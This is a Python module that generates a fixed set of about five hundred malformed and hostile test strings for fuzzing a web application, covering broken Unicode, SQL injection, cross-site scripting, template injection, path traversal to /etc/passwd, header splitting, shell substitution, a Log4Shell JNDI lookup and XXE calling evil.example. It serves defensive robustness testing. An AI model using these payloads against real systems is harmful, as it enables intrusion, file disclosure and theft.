"""Five hundred strings that disturb programs, made by rules: the same ones in every run.

A string is what stands in an address, percent-encoded, since some of them are no text at all
(broken UTF-8, lone surrogates).  `MARK` is in whatever would become markup, a header or a call,
so that an answer in which it came to life is known; `SUM` is what a template language would make
of `PRODUCT`.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product
from typing import Final
from urllib.parse import quote, unquote, unquote_to_bytes

MARK: Final = "zqx"
PRODUCT: Final = "7919*7907"
SUM: Final = "62615533"
SAFE: Final = ""


@dataclass(frozen=True, slots=True)
class Naughty:
    """One string: the kind of trouble it stands for, and its percent-encoded form."""

    kind: str
    encoded: str

    @property
    def raw(self) -> bytes:
        """Its bytes."""
        return unquote_to_bytes(self.encoded)

    @property
    def text(self) -> str:
        """Its text as a program reads it, with a mark for each byte that is none."""
        return unquote(self.encoded, errors="replace")


def of_texts(kind: str, texts: Iterator[str] | list[str]) -> list[Naughty]:
    return [Naughty(kind, quote(text, safe=SAFE)) for text in texts]


def _characters() -> list[str]:
    """Control, invisible, direction-changing and forbidden characters, each between letters."""
    codes = [*range(0x20), *range(0x7F, 0xA1), 0xAD, 0x34F, 0x61C, 0x180E]
    codes += [*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070)]
    codes += [0xFEFF, *range(0xFFF9, 0x10000), 0xE000, 0xF8FF, 0x1FFFE, 0xE0001, 0xE0041]
    codes += [0x10FFFE, 0x10FFFF, 0x115F, 0x3164, 0x2800, 0x3000]
    return [f"a{chr(code)}b" for code in codes]


def _letters() -> list[str]:
    """What has more code points than letters, or grows when its case changes."""
    return [
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "👍🏿",
        "1️⃣",
        "🇸🇪🇳🇴🇫🇮",
        "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "🫠" * 300,
        "\U0001f600\ufe0e",
        "‍",
        "🇸",
        "Z" + "\u0301\u0316\u034f" * 60,
        "e\u0301",
        "\u0301a",
        "ﷺ" * 20,
        "ﬃ",
        "ŉ",
        "ẞß",
        "İı",
        "ǅ",
        "Σσς",
        "ΐ" * 50,
        "ⅷ",
        "ﬀ",
        "𝕳𝖊𝖏",
        "ｆａｌｕｎ",
        "ＦＡＬＵＮ",
        "раураl",
        "กำ",
        "نور",
        "हिन्दी",
        "漢字かな",
        "𠜎𠜱",
        "a\u202ecba",
        "\u2067right\u2069",
        "\u05d0\u05d1/\u05d2",
        "…",
        "‘’“”",
        "–—",
        "Å",
        "Å",
    ]


def _broken_bytes() -> list[Naughty]:
    """What is no UTF-8, and what is no percent-encoding."""
    broken = ["%80", "%BF", "%C0%AE", "%C0%AF", "%C1%9C", "%E0%80%AF", "%F0%80%80%AF", "%F8%80%80"]
    broken += ["%FC%80%80%80", "%FE", "%FF", "%FF%FE", "%FE%FF", "%F4%90%80%80", "%F5%80%80%80"]
    broken += ["%C3", "%E2%82", "%F0%9F%98", "a%C3b", "%C3%28", "%A0%A1", "%E2%28%A1", "%F0%28%8C"]
    broken += ["%ED%A0%80", "%ED%AF%BF", "%ED%B0%80", "%ED%BF%BF", "%ED%A0%BD%ED%B8%80"]
    broken += ["a%ED%A0%80b", "%ED%B0%80%ED%A0%80", "%C0%80", "%00%FF%00", "%E5%E4%F6", "%1B%24%42"]
    no_encoding = ["%", "%%", "%2", "%zz", "%u0041", "%u002f", "a%", "%-1", "%25", "%2525", "%25zz"]
    surrogates = ["%uD800", "%uDFFF", "%26%23xD800%3B", "%5CuD800", "%5Cud83d", "%5Cx00"]
    rows = (("bytes", broken), ("encoding", no_encoding), ("surrogate", surrogates))
    return [Naughty(kind, one) for kind, ones in rows for one in ones]


def _sql() -> Iterator[str]:
    for open_, then, end in product(
        ("'", '"', "1", "')", "1;"),
        (" OR 1=1", " UNION SELECT NULL,NULL", "; DROP TABLE entry", " AND SLEEP(5)"),
        ("--", "/*"),
    ):
        yield f"{open_}{then}{end}"
    yield from ("'", "''", "`", "\\'", "%", "_", "1'||pg_sleep(5)--", "$$;$$", "E'\\x41'", "\\")


def _search() -> list[str]:
    """What the search engines below would read as an order."""
    return [
        '"',
        '""',
        '"""',
        '"a',
        'a"',
        "(",
        ")",
        "a AND",
        "OR",
        "NOT a",
        "NEAR(a b, 5)",
        "a*",
        "*",
        "^a",
        "a:b",
        "title:falun",
        "{title summary}:a",
        "- a",
        "--",
        "-",
        "-a",
        '-"a b"',
        "+a",
        "a & b",
        "!a",
        "a | b",
        "a <-> b",
        "a:*",
        "a:ABCD",
        "<2>",
        "'a' & ''",
        ":",
        "\\",
        "a\\:b",
        " ".join("abcdefgh" * 30),
        "&&&",
    ]


def _markup() -> Iterator[str]:
    inner = (
        f"<{MARK}>",
        f"<script>{MARK}()</script>",
        f"<img src=x onerror={MARK}()>",
        f"<svg/onload={MARK}()>",
        f"<a href=javascript:{MARK}()>a</a>",
        f"<style>{MARK}{{}}</style>",
        f"<iframe srcdoc='<{MARK}>'>",
        f"<base href=//evil.example/{MARK}>",
        f"<!--{MARK}-->",
        f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    )
    before = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--><", "]]>")
    for start, markup in product(before, inner):
        yield start + markup
    yield from (
        f'" {MARK}="',
        f"' {MARK}='",
        f'" onfocus="{MARK}()" autofocus="',
        f"` {MARK}=`",
        f'" style="{MARK}:1',
        f"javascript:{MARK}()",
        f"JaVaScRiPt:{MARK}()",
        f"\x01javascript:{MARK}()",
        f"java\tscript:{MARK}()",
        f"data:text/html,<{MARK}>",
        f"vbscript:{MARK}",
        f"&lt;{MARK}&gt;",
        f"&#60;{MARK}&#62;",
        f"&{MARK};",
        f"<![CDATA[<{MARK}>]]>",
        f"<?{MARK}?>",
        f"<!DOCTYPE {MARK}>",
        f"<!ENTITY {MARK} 'a'>",
        f"\\u003c{MARK}\\u003e",
        f"＜{MARK}＞",
        f"<{MARK}\x00>",
        f"<\x00{MARK}>",
        f"<{MARK}/\n/{MARK}=1>",
        f"</{MARK}",
        f"<{MARK}",
        f'{{"{MARK}":1}}',
        f'","{MARK}":"',
        f'"}}],"{MARK}":[{{"',
        f'\\",\\"{MARK}',
        f"\u2028{MARK}()//",
        f"*/{MARK}()/*",
        f"';{MARK}();'",
        f'";{MARK}();//',
        f"${{{MARK}()}}",
        f"</svg><{MARK}>",
        f"</head><{MARK}>",
    )


def _templates() -> list[str]:
    asks = [f"{{{{{PRODUCT}}}}}", f"${{{PRODUCT}}}", f"#{{{PRODUCT}}}", f"<%= {PRODUCT} %>"]
    asks += [f"{{%print({PRODUCT})%}}", f"{{{{config}}}}{{{{{PRODUCT}}}}}", f"@({PRODUCT})"]
    asks += [
        f"${{{{{PRODUCT}}}}}",
        f"*{{{PRODUCT}}}",
        f"[[{PRODUCT}]]",
        f"<#assign a={PRODUCT}>${{a}}",
    ]
    asks += [
        "{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{{",
        "}}",
        "{%",
        "%}",
        "{#",
    ]
    asks += ["%s", "%(value)s", "%(known)s", "%d%d%d%n", "%", "%%", "%1$s", "{0}", "{}", "{value}"]
    return [
        *asks,
        "{0.__class__}",
        "$value",
        "${value}",
        "%(",
        "%(a",
        "%(value)d",
        "{!r}",
        "{:>999999999}",
    ]


def _paths() -> Iterator[str]:
    steps = ("../", "..\\", "....//", "..;/", "%2e%2e/", "..%2f", "..%c0%af", "/", "./", "\\\\?\\")
    ends = ("etc/passwd", "hub.sqlite", "secret_key", "")
    for step, end in product(steps, ends):
        yield step * 6 + end
    yield from ("file:///etc/passwd", "/proc/self/environ", "CON", "nul.txt", "~root", "a\x00.css")


def _header_lines() -> Iterator[str]:
    line_ends = (
        "\r\n",
        "\n",
        "\r",
        "\u010d\u010a",
        "\u560d\u560a",
        "\x0b",
        "\x85",
        "\u2028",
        "\r\n\r\n",
    )
    for end, line in product(line_ends, (f"Set-Cookie: {MARK}=1", f"X-{MARK}: 1", f"BEGIN:{MARK}")):
        yield f"a{end}{line}"
    yield from (f"a\r\n {MARK}", f"a\r\n\r\n<{MARK}>", f"a;filename={MARK}", f'a"; {MARK}="1')


def _numbers() -> list[str]:
    return [
        "0",
        "-0",
        "-1",
        "1e309",
        "NaN",
        "Infinity",
        "-Infinity",
        "0x10",
        "1_000",
        "²",
        "٣",
        "１２",
        "1.0",
        "1,0",
        "2147483647",
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "9" * 5000,
        "1" + "0" * 400,
        "½",
        "-2147483649",
        "+1",
        " 1",
        "1 ",
        "0b1",
        "1e1000000000",
        "౧",
        "Ⅷ",
        "𝟙",
    ]


def _days() -> list[str]:
    return [
        "0000-00-00",
        "0001-01-01",
        "9999-12-31",
        "2026-02-30",
        "2026-13-01",
        "2026-W53-7",
        "2026-W01",
        "20261126",
        "2026-11-26T00:00:00Z",
        "２０２６-11-26",
        "2026-11",
        "-2026-11-26",
        "+12026-11-26",
        "1900-01-01",
        "1899-12-31",
        "2199-12-31",
        "2200-01-01",
        "0001-01",
        "9999-12",
        "2026-00",
        "2026-99",
        "26-11-26",
        "2026/11/26",
        "today",
        "2026-11-26\n",
        "1970-01-01",
        "2038-01-19",
        "2026-02-29",
        "2024-02-29",
        "0000-01",
    ]


def _programs() -> list[str]:
    """What other programs read: shells, spreadsheets, directories, loggers, JavaScript."""
    return [
        "$(touch /tmp/zqx)",
        "`touch /tmp/zqx`",
        "; ls",
        "| ls",
        "&& ls",
        "a\nb",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("//evil.example")',
        "*)(uid=*",
        "' or '1'='1",
        "${jndi:ldap://evil.example/a}",
        "() { :; };",
        "__proto__",
        "constructor",
        "__class__",
        "hasOwnProperty",
        "null",
        "None",
        "undefined",
        "true",
        "NULL",
        "nil",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x08\x08\x08",
        "\x9b31m",
        "2026-01-01 00:00:00,000 ERROR hub: no",
        "!!python/object:os.system",
        "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
        "[]",
        "{}",
        "a=b&c=d",
        "a;b",
        "a,b,,c",
        ",",
        ",,,,",
        "a#b",
        "a?b",
        "&",
        "=",
        "+",
        " ",
        "",
        "\t",
        "falun,hamina",
        "ALL",
    ]


def _long() -> list[str]:
    return [
        "a" * 1000,
        "a" * 8000,
        "å" * 3000,
        "a " * 4000,
        '"' * 3000,
        "<" * 3000,
        "-a " * 2000,
        "," * 8000,
        "a," * 4000,
        "../" * 2000,
        "\u0301" * 2000,
        "🫠" * 2000,
        "&amp;" * 1500,
        "((" * 2000,
        "%" * 2000,
        "/" * 8000,
        "{{" * 2000,
        "\n" * 4000,
        "." * 8000,
        "-" * 8000,
    ]


def _mixed(count: int) -> list[Naughty]:
    """Random bytes and random code points, from a fixed seed."""
    dice = random.Random(2026)
    made = []
    for number in range(count):
        if number % 2:
            made.append("".join(f"%{dice.randrange(256):02X}" for _place in range(12)))
        else:
            codes = [
                dice.choice((dice.randrange(0x250), dice.randrange(0x110000))) for _ in "123456789"
            ]
            text = "".join(chr(code) for code in codes)
            made.append(quote(text.encode("utf-8", "surrogatepass"), safe=""))
    return [Naughty("random", one) for one in made]


@cache
def naughty_strings() -> tuple[Naughty, ...]:
    """All of them, each once."""
    texts = (
        ("character", _characters()),
        ("letters", _letters()),
        ("sql", _sql()),
        ("search", _search()),
        ("markup", _markup()),
        ("template", _templates()),
        ("path", _paths()),
        ("header", _header_lines()),
        ("number", _numbers()),
        ("day", _days()),
        ("program", _programs()),
        ("long", _long()),
    )
    found = [one for kind, made in texts for one in of_texts(kind, list(made))]
    found += [*_broken_bytes(), *_mixed(40)]
    return tuple({one.encoded: one for one in found}.values())
